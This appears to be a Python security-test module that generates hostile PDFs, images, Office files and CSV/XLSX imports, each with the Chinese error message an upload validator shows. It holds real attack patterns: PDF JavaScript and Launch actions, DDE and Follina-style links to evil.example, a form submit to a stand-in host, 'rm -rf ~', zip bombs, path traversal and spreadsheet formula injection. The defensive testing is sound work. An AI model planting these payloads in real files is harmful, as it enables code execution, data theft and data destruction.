"""The hostile files of issue 12, built in code (no binary blobs), each with the reason it must be refused.

UPLOADS go through core.files (every kind allowed that a document upload allows), IMPORTS through the
two importers' previews. Each case names a fragment of the Chinese message the user must see.
DEFUSED are real photos carrying something they must not keep (GPS position, a trailer): accepted,
but what is stored has lost it.
"""

from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.security import make_images as img
from tests.security import make_office as office
from tests.security import make_pdf as pdf
from tests.security import make_tables as tables
from tests.security.make_office import Member

EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
       + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


@dataclass(frozen=True)
class Case:
    id: str
    name: str  # the file name the attacker gives
    make: Callable[[], bytes]
    reason: str  # a fragment of the message the user sees


def _zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", EXE)
    return buffer.getvalue()


def _js(extra: bytes) -> bytes:
    return pdf.build({**pdf.page_tree(extra), 5: b"<< /S /JavaScript /JS (app.alert(1)) >>"})


def _annotated(annotation: bytes) -> bytes:
    return pdf.build({**pdf.page_tree(page_extra=b"/Annots [5 0 R]"), 5: annotation})


def _link(action: bytes) -> bytes:
    return _annotated(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A " + action + b" >>")


def _hidden(catalog_extra: bytes, extra: dict[int, bytes]) -> bytes:
    tree = pdf.page_tree(catalog_extra)
    return pdf.build_compressed({1: tree[1], 2: tree[2], 3: tree[3], **extra}, {4: tree[4]})


def _with_stream(payload: bytes) -> bytes:
    return pdf.build({**pdf.page_tree(), 5: pdf.stream(payload)})


def _embedded_file() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"
    return pdf.build({**pdf.page_tree(names), 5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                      6: pdf.stream(b"harmless text", b"/Type /EmbeddedFile")})


PLAIN_PDF = functools.cache(lambda: pdf.build(pdf.page_tree()))

PDF_CASES = [
    Case("pdf-openaction-javascript", "通知.pdf", lambda: _js(b"/OpenAction 5 0 R"), "脚本或自动执行动作"),
    Case("pdf-names-javascript", "通知.pdf",
         lambda: _js(b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>"), "脚本"),
    Case("pdf-hex-escaped-names", "通知.pdf",
         lambda: pdf.build({**pdf.page_tree(b"/O#70enAction 5 0 R"),
                            5: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"}), "脚本"),
    Case("pdf-hex-escaped-js-key-only", "通知.pdf",
         lambda: _link(b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>"), "脚本"),
    Case("pdf-launch-on-open", "通知.pdf",
         lambda: pdf.build({**pdf.page_tree(b"/OpenAction 5 0 R"),
                            5: b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}), "脚本"),
    Case("pdf-launch-in-link", "通知.pdf", lambda: _link(b"<< /S /Launch /F (calc.exe) >>"), "启动程序"),
    Case("pdf-page-additional-actions", "通知.pdf",
         lambda: pdf.build({**pdf.page_tree(page_extra=b"/AA << /O 5 0 R >>"),
                            5: b"<< /S /JavaScript /JS (this.print()) >>"}), "脚本"),
    Case("pdf-embedded-file", "通知.pdf", _embedded_file, "嵌入的文件"),
    Case("pdf-file-attachment-annotation", "通知.pdf",
         lambda: _annotated(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>"),
         "嵌入的文件"),
    Case("pdf-richmedia", "通知.pdf",
         lambda: _annotated(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"), "多媒体"),
    Case("pdf-xfa-form", "通知.pdf",
         lambda: pdf.build({**pdf.page_tree(b"/AcroForm << /Fields [] /XFA 5 0 R >>"),
                            5: pdf.stream(b"<xdp:xdp/>")}), "XFA"),
    Case("pdf-submit-form", "通知.pdf",
         lambda: _link(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>"), "提交数据"),
    Case("pdf-import-data", "通知.pdf", lambda: _link(b"<< /S /ImportData /F (data.fdf) >>"), "提交数据"),
    Case("pdf-goto-remote", "通知.pdf", lambda: _link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0] >>"),
         "打开外部文件"),
    Case("pdf-goto-embedded", "通知.pdf", lambda: _link(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
         "打开外部文件"),
    Case("pdf-rendition", "通知.pdf", lambda: _link(b"<< /S /Rendition /OP 0 >>"), "多媒体"),
    Case("pdf-uri-javascript-scheme", "通知.pdf", lambda: _link(b"<< /S /URI /URI (javascript:app.alert(1)) >>"),
         "不安全的协议"),
    Case("pdf-uri-file-scheme", "通知.pdf",
         lambda: _link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), "不安全的协议"),
    Case("pdf-uri-unc-path", "通知.pdf", lambda: _link(b"<< /S /URI /URI (\\\\\\\\attacker\\\\share) >>"),
         "网络共享"),
    Case("pdf-objstm-openaction", "通知.pdf",
         lambda: _hidden(b"/OpenAction 5 0 R", {5: b"<< /S /JavaScript /JS (app.alert(1)) >>"}), "脚本"),
    Case("pdf-objstm-hex-escaped-launch", "通知.pdf",
         lambda: _hidden(b"/Names << /EmbeddedFiles 5 0 R >>", {5: b"<< /#4Eames [] >>"}), "嵌入的文件"),
    Case("pdf-objstm-launch-link", "通知.pdf",
         lambda: pdf.build_compressed({1: pdf.page_tree()[1], 2: pdf.page_tree()[2],
                                       3: pdf.page_tree(page_extra=b"/Annots [5 0 R]")[3],
                                       5: b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (x) >> >>"},
                                      {4: pdf.page_tree()[4]}), "启动程序"),
    Case("pdf-incremental-openaction", "通知.pdf",
         lambda: pdf.append_update(PLAIN_PDF(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                                                 5: b"<< /S /JavaScript /JS (app.alert(1)) >>"}), "脚本"),
    Case("pdf-incremental-compressed-openaction", "通知.pdf",
         lambda: pdf.append_compressed_update(PLAIN_PDF(), {
             1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
             5: b"<< /S /JavaScript /JS (app.alert(1)) >>"}), "脚本"),
    Case("pdf-encrypted", "通知.pdf", lambda: pdf.encrypted_pdf("secret"), "已加密"),
    Case("pdf-encrypted-empty-user-password", "通知.pdf", lambda: pdf.encrypted_pdf(""), "已加密"),
    Case("pdf-then-zip", "通知.pdf", lambda: PLAIN_PDF() + _zip_archive(), "结束标记"),
    Case("pdf-then-zip-then-eof", "通知.pdf", lambda: PLAIN_PDF() + _zip_archive() + b"\n%%EOF\n", "ZIP"),
    Case("pdf-zip-inside-stream", "通知.pdf", lambda: _with_stream(_zip_archive()), "ZIP"),
    Case("pdf-exe-inside-stream", "通知.pdf", lambda: _with_stream(EXE), "可执行程序"),
    Case("pdf-elf-inside-stream", "通知.pdf", lambda: _with_stream(ELF), "可执行程序"),
    Case("pdf-html-in-comment", "通知.pdf",
         lambda: PLAIN_PDF().replace(b"%\xe2\xe3\xcf\xd3\n", b"%<html><script>alert(1)</script>\n", 1), "网页"),
    Case("pdf-two-pdfs-concatenated", "通知.pdf", lambda: PLAIN_PDF() + PLAIN_PDF(), "PDF 文件"),
    Case("pdf-trailing-text", "通知.pdf", lambda: PLAIN_PDF() + b"#!/bin/sh\nrm -rf ~\n", "结束标记"),
    Case("exe-before-pdf-header", "通知.pdf", lambda: EXE + PLAIN_PDF(), "不是允许的格式"),
    Case("zip-with-pdf-inside", "通知.pdf", lambda: _zip_archive() + PLAIN_PDF(), "不是允许的格式"),
]


def _jpeg_then(payload: bytes) -> bytes:
    return img.jpeg() + payload


def _png_then(payload: bytes) -> bytes:
    return img.png() + payload


IMAGE_CASES = [
    Case("exe-with-jpeg-magic", "照片.jpg", lambda: b"\xff\xd8\xff\xe0" + EXE + b"\xff\xd9", "可执行程序"),
    Case("exe-with-png-magic", "照片.png", lambda: b"\x89PNG\r\n\x1a\n" + EXE + b"IEND\xaeB`\x82", "可执行程序"),
    Case("stripped-exe-with-jpeg-magic", "照片.jpg", lambda: b"\xff\xd8\xff\xe0" + EXE[:64] + b"\xff\xd9",
         "无法解码"),
    Case("stripped-exe-with-png-magic", "照片.png", lambda: b"\x89PNG\r\n\x1a\n" + EXE[:64] + b"IEND\xaeB`\x82",
         "无法解码"),
    Case("elf-with-jpeg-magic", "照片.jpg", lambda: b"\xff\xd8\xff\xdb" + ELF + b"\xff\xd9", "可执行程序"),
    Case("jpeg-then-zip", "照片.jpg", lambda: _jpeg_then(_zip_archive()), "ZIP"),
    Case("png-then-zip", "照片.png", lambda: _png_then(_zip_archive()), "ZIP"),
    Case("jpeg-then-exe", "照片.jpg", lambda: _jpeg_then(EXE), "可执行程序"),
    Case("jpeg-then-pdf", "照片.jpg", lambda: _jpeg_then(PLAIN_PDF()), "PDF"),
    Case("png-text-chunk-script", "照片.png",
         lambda: img.png_with_chunks(img.png(), img.png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
         "网页"),
    Case("jpeg-comment-html", "照片.jpg", lambda: img.jpeg_with_app_segment(0xFE, b"<html><body>x</body></html>"),
         "网页"),
    Case("jpeg-header-65000-square", "照片.jpg", lambda: img.jpeg_with_dimensions(65000, 65000), "图片尺寸过大"),
    Case("png-header-30000-square", "照片.png", lambda: img.png_header_only(30000, 30000), "图片尺寸过大"),
    Case("png-900-megapixel-bomb", "照片.png", lambda: img.png_pixel_bomb(30000, 30000), "图片尺寸过大"),
    Case("png-100000-wide", "照片.png", lambda: img.png_header_only(100000, 600), "图片尺寸过大"),
    Case("jpeg-truncated", "照片.jpg", lambda: img.jpeg((256, 256))[:400], "不完整或已损坏"),
    Case("jpeg-scan-data-missing", "照片.jpg", lambda: img.jpeg((256, 256))[:400] + b"\xff\xd9", "无法解码"),
    Case("png-bad-crc", "照片.png",
         lambda: img.png()[:29] + b"\x00\x00\x00\x00" + img.png()[33:], "无法解码"),
    Case("gif-named-png", "照片.png", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "不是允许的格式"),
    Case("svg-named-png", "照片.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
         "不是允许的格式"),
]


def _docx_with(*extra: Member, types: dict[str, str] | None = None, defaults=None) -> bytes:
    return office.package(office.docx_members(extra=list(extra), extra_types=types, defaults=defaults))


def _docx_rels(*relations) -> bytes:
    return office.docx(document_rels=office.rels(*relations))


def settings_rels(*relations) -> bytes:
    return _docx_with(Member("word/settings.xml", b'<w:settings xmlns:w="%s"/>' % office.W.encode()),
                      Member("word/_rels/settings.xml.rels", office.rels(*relations)))


def _field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def _split_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _utf16_dde() -> bytes:
    body = office.document_xml(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")).decode()
    xml = body.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    members = office.docx_members()
    members[2] = Member("word/document.xml", xml)
    return office.package(members)


def _xlsx_with(sheet_rows: str = "", **options) -> bytes:
    sheet = office.sheet_xml(sheet_rows) if sheet_rows else None
    return office.package(office.xlsx_members(sheet=sheet, **options))


@functools.cache
def _gib_bomb() -> tuple[bytes, int]:
    return office.zeros_bomb(1 << 30)


@functools.cache
def _fifty_mb_bomb() -> tuple[bytes, int]:
    return office.zeros_bomb(50 << 20)


def _bomb_member(name: str, bomb: tuple[bytes, int], size: int, declared: int | None = None) -> Member:
    raw, crc = bomb
    return Member(name, b"", raw=raw, crc=crc, declared_size=size if declared is None else declared)


def _lying_sizes() -> bytes:
    members = office.docx_members()
    members.append(_bomb_member("word/media/filler.bin", _fifty_mb_bomb(), 50 << 20, declared=1000))
    return office.package(members)


def _with_member(member: Member) -> bytes:
    return office.package([*office.docx_members(), member])


VBA = Member("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
MACRO_DOC = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

OFFICE_CASES = [
    Case("docx-vba-project", "通知.docx", lambda: _docx_with(VBA, defaults={"bin": "application/vnd.ms-office.vbaProject"}),
         "宏"),
    Case("docx-vba-part-only", "通知.docx", lambda: _docx_with(VBA), "宏"),
    Case("docm-content-type", "通知.docx", lambda: office.docx(doc_type=MACRO_DOC), "宏"),
    Case("xlsx-vba-project", "名单.xlsx",
         lambda: _xlsx_with(extra=[Member("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)]), "宏"),
    Case("xlsm-content-type", "名单.xlsx", lambda: _xlsx_with(book_type=MACRO_BOOK), "宏"),
    Case("xlsx-excel4-macro-sheet", "名单.xlsx",
         lambda: _xlsx_with(extra=[Member("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]), "宏"),
    Case("docx-activex", "通知.docx",
         lambda: _docx_with(Member("word/activeX/activeX1.xml", b"<ax:ocx/>")), "ActiveX"),
    Case("docx-remote-template", "通知.docx",
         lambda: settings_rels(("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")), "模板"),
    Case("docx-remote-template-unc", "通知.docx",
         lambda: settings_rels(("rId1", "attachedTemplate", "\\\\evil\\share\\t.dotm", "External")), "模板"),
    Case("docx-remote-template-file-url-to-host", "通知.docx",
         lambda: settings_rels(("rId1", "attachedTemplate", "file://evil.example/share/t.dotm", "External")), "模板"),
    Case("docx-follina-external-ole", "通知.docx",
         lambda: _docx_rels(("rId9", "oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil", "External")),
         "OLE"),
    Case("docx-remote-image", "通知.docx",
         lambda: _docx_rels(("rId9", "image", "http://evil.example/beacon.png", "External")), "外部文件或远程内容"),
    Case("docx-external-frame", "通知.docx",
         lambda: _docx_rels(("rId9", "frame", "https://evil.example/frame.html", "External")), "外部文件或远程内容"),
    Case("docx-hyperlink-file-scheme", "通知.docx",
         lambda: _docx_rels(("rId9", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External")), "超链接"),
    Case("docx-hyperlink-unc", "通知.docx",
         lambda: _docx_rels(("rId9", "hyperlink", "\\\\evil\\share\\x", "External")), "超链接"),
    Case("docx-ole-embedding", "通知.docx",
         lambda: _docx_with(Member("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)), "OLE"),
    Case("docx-embedded-package", "通知.docx",
         lambda: _docx_with(Member("word/embeddings/Microsoft_Word_Document.docx", office.docx())), "嵌入"),
    Case("docx-dde-field", "通知.docx", lambda: office.docx(body=_field('DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;')),
         "DDE"),
    Case("docx-dde-split-runs", "通知.docx", lambda: office.docx(body=_split_field(" DD", "EAU", "TO cmd.exe ")), "DDE"),
    Case("docx-dde-quote-spelled", "通知.docx",
         lambda: office.docx(body=_split_field(" QUOTE 68 68 69 65 85 84 79 ")), "DDE"),
    Case("docx-dde-utf16", "通知.docx", _utf16_dde, "DDE"),
    Case("docx-dde-character-reference", "通知.docx", lambda: office.docx(body=_split_field(" DD&#69; cmd ")), "DDE"),
    Case("docx-dde-in-header", "通知.docx",
         lambda: _docx_with(Member("word/header1.xml", office.document_xml(_field("DDE cmd.exe x")))), "DDE"),
    Case("docx-doctype-entities", "通知.docx",
         lambda: _docx_with(Member("word/footnotes.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
         "DTD"),
    Case("xlsx-external-link", "名单.xlsx",
         lambda: _xlsx_with(extra=[Member("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
                                   Member("xl/externalLinks/_rels/externalLink1.xml.rels",
                                          office.rels(("rId1", "externalLinkPath", "file:///C:/x.xlsx", "External")))]),
         "外部链接"),
    Case("xlsx-external-link-relation-only", "名单.xlsx",
         lambda: _xlsx_with(book_rels_extra=(("rId7", "externalLink", "http://evil.example/b.xlsx", "External"),)),
         "外部链接"),
    Case("xlsx-dde-formula", "名单.xlsx",
         lambda: _xlsx_with('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>'), "DDE"),
    Case("xlsx-web-query-connection", "名单.xlsx",
         lambda: _xlsx_with(extra=[Member("xl/connections.xml", b"<connections/>")]), "外部数据连接"),
    Case("docx-1-gib-zip-bomb", "通知.docx",
         lambda: _with_member(_bomb_member("word/media/image1.bin", _gib_bomb(), 1 << 30)), "解压后过大"),
    Case("docx-ratio-bomb-under-size-cap", "通知.docx",
         lambda: _with_member(_bomb_member("word/media/image1.bin", _fifty_mb_bomb(), 50 << 20)), "压缩比异常"),
    Case("docx-sizes-lie-downwards", "通知.docx", _lying_sizes, "声明的大小或校验值不符"),
    Case("docx-sizes-lie-upwards", "通知.docx",
         lambda: _with_member(Member("word/media/a.bin", b"x" * 100, declared_size=0xFFFFFFFE)), "解压后过大"),
    Case("docx-3000-members", "通知.docx",
         lambda: office.package([*office.docx_members(), *(Member(f"word/media/{i}.bin", b"x") for i in range(3000))]),
         "文件过多"),
    Case("docx-pdf-inside-stored-member", "通知.docx",
         lambda: _with_member(Member("word/media/a.bin", PLAIN_PDF(), deflate=False)), "PDF"),
    Case("docx-then-pdf", "通知.docx", lambda: office.docx() + PLAIN_PDF(), "PDF"),
    Case("docx-then-exe", "通知.docx", lambda: office.docx() + EXE, "可执行程序"),
    Case("docx-gap-between-members", "通知.docx",
         lambda: office.package(office.docx_members(), gap_after={1: b"\x00hidden-payload" * 40}), "额外的数据"),
    Case("docx-trailing-bytes", "通知.docx",
         lambda: office.package(office.docx_members(), trailing=b"\x01\x02hidden" * 10), "末尾附加"),
    Case("docx-long-comment", "通知.docx",
         lambda: office.package(office.docx_members(), comment=b"\x01payload" * 200), "末尾附加"),
    Case("docx-encrypted-member", "通知.docx",
         lambda: _with_member(Member("word/media/a.bin", b"x" * 50, flags=0x1)), "已加密"),
    Case("docx-path-traversal-member", "通知.docx",
         lambda: _with_member(Member("../../../../tmp/evil.sh", b"#!/bin/sh\n")), "路径不安全"),
    Case("docx-duplicate-member", "通知.docx",
         lambda: _with_member(Member("word/document.xml", office.document_xml(_field("DDEAUTO cmd")))), "重名"),
]

UPLOADS = PDF_CASES + IMAGE_CASES + OFFICE_CASES


# --- importers: (file name, content) refused by the preview --------------------------------------

@dataclass(frozen=True)
class ImportCase:
    id: str
    importer: str  # "roster" or "experts"
    name: str
    make: Callable[[], bytes]
    reason: str


FORMULA_NAMES = ["=HYPERLINK(\"http://evil.example\",\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]

IMPORTS = [
    ImportCase("xlsx-xfd-width-100kb", "roster", "名单.xlsx", tables.xfd_width, "没有企业数据"),
    ImportCase("xlsx-xfd-width-60000-rows", "roster", "名单.xlsx", lambda: tables.xfd_width(60_000), "行数过多"),
    ImportCase("xlsx-100000-rows", "roster", "名单.xlsx", lambda: tables.many_rows(100_000), "一次最多导入"),
    ImportCase("xlsx-million-rows", "roster", "名单.xlsx", lambda: tables.many_rows(1_048_575), "解压后过大"),
    ImportCase("xlsx-row-at-1048576", "roster", "名单.xlsx", tables.far_row, "行数过多"),
    ImportCase("xlsx-20000-cells-in-a-row", "roster", "名单.xlsx", tables.wide_row, "单元格过多"),
    ImportCase("xlsx-doctype-entities", "roster", "名单.xlsx", tables.doctype_sheet, "DTD"),
    ImportCase("xlsx-utf16-worksheet", "roster", "名单.xlsx", tables.utf16_sheet, "UTF-8"),
    ImportCase("xlsx-zip-bomb", "roster", "名单.xlsx",
               lambda: tables.roster_xlsx("", extra=[_bomb_member("xl/sharedStrings.xml", _fifty_mb_bomb(), 50 << 20)]),
               "压缩比异常"),
    ImportCase("xlsx-formula-name", "roster", "名单.xlsx",
               lambda: tables.roster_xlsx_names(["=cmd|' /C calc'!A0", "@SUM(1)"]), "公式"),
    *(ImportCase(f"csv-formula-name-{i}", "roster", "名单.csv", (lambda n=n: tables.roster_csv([n])), "公式")
      for i, n in enumerate(FORMULA_NAMES)),
    ImportCase("csv-formula-expert-name", "experts", "专家.csv", lambda: tables.expert_csv(["=1+2"]), "公式"),
    ImportCase("csv-formula-expert-organisation", "experts", "专家.csv",
               lambda: tables.expert_csv(["王五"]).replace("河北省环境科学研究院".encode(), b"@SUM(A1)"), "公式"),
    ImportCase("csv-200kb-field", "roster", "名单.csv", tables.huge_field_csv, "过长"),
    ImportCase("csv-million-commas", "roster", "名单.csv", tables.wide_line_csv, "过长"),
    ImportCase("csv-over-10-mb", "roster", "名单.csv", lambda: tables.many_rows_csv(20) + b"#" * (11 << 20), "文件过大"),
    ImportCase("csv-20001-rows", "roster", "名单.csv", lambda: tables.many_rows_csv(20_001), "一次最多导入"),
    ImportCase("csv-nul-bytes", "roster", "名单.csv", lambda: tables.roster_csv(["甲\x00乙"]), "空字符"),
]
